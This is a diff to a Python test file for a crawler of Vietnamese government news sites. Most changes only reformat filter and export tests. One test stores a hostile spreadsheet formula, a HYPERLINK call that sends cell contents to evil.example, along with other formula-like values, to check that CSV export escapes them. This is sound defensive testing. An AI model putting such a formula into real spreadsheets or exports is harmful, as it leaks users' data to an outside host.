@@ -15,7 +15,9 @@ from crawler.storage import ArticleStore
 from tests.analytics.sample_data import A1, A2, A3, B1, B3, populate
 
 SEED_PATH = "/tin-moi/hoi-nghi-truc-tuyen-cong-tac-dan-van-nam-2021-37511"
-UPU_TITLE = "Cuộc thi viết thư quốc tế UPU lần thứ 47 (2018) của Việt Nam trên địa bàn thành phố Hà Nội"
+UPU_TITLE = (
+    "Cuộc thi viết thư quốc tế UPU lần thứ 47 (2018) của Việt Nam trên địa bàn thành phố Hà Nội"
+)
 
 
 def jsonl(store, **kwargs) -> list[dict]:
@@ -83,13 +85,18 @@ def test_site_and_vietnam_day_filters(crawled):
     assert len(jsonl(crawled, site=["nd-giaothuy", "hn-sotttt"])) == 9
     assert jsonl(crawled, site=["nowhere"]) == []
     one_day = jsonl(crawled, since=date(2021, 1, 14), until=date(2021, 1, 14), fields=["title"])
-    assert len(one_day) == 2 and all("Lâm Dũng" in r["title"] or "Bạch Long" in r["title"]
-                                     for r in one_day)
+    assert len(one_day) == 2 and all(
+        "Lâm Dũng" in r["title"] or "Bạch Long" in r["title"] for r in one_day
+    )
     assert jsonl(crawled, since=date(2021, 1, 15), until=date(2021, 3, 14)) == []
     assert len(jsonl(crawled, since=date(2021, 3, 15), until=date(2021, 3, 15))) == 1
     # a date-only article is stored as 00:00 Vietnam time = 17:00Z the day before
-    legacy = jsonl(crawled, since=date(2013, 10, 24), until=date(2013, 10, 24),
-                   fields=["published_at", "published_date_only"])
+    legacy = jsonl(
+        crawled,
+        since=date(2013, 10, 24),
+        until=date(2013, 10, 24),
+        fields=["published_at", "published_date_only"],
+    )
     assert legacy == [{"published_at": "2013-10-24T00:00:00+07:00", "published_date_only": True}]
     assert len(jsonl(crawled, since=date(2021, 1, 1))) == 5
     assert len(jsonl(crawled, until=date(2020, 12, 31))) == 4
@@ -158,11 +165,21 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_text(store):
     from datetime import UTC, datetime
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
-    store.upsert_articles([
-        {"canonical_url": "http://x.gov.vn/a", "url": "http://x.gov.vn/a", "site_id": "x",
-         "title": hostile, "author": "@admin", "summary": "-1+1", "body": "Nội dung",
-         "views": -3},
-    ], datetime(2024, 1, 1, tzinfo=UTC))
+    store.upsert_articles(
+        [
+            {
+                "canonical_url": "http://x.gov.vn/a",
+                "url": "http://x.gov.vn/a",
+                "site_id": "x",
+                "title": hostile,
+                "author": "@admin",
+                "summary": "-1+1",
+                "body": "Nội dung",
+                "views": -3,
+            },
+        ],
+        datetime(2024, 1, 1, tzinfo=UTC),
+    )
     _, rows = csv_rows(store, fields=["title", "author", "summary", "body", "views"])
     assert rows[1] == ["'" + hostile, "'@admin", "'-1+1", "Nội dung", "-3"]
     assert jsonl(store, fields=["title"])[0]["title"] == hostile  # JSON Lines: as stored
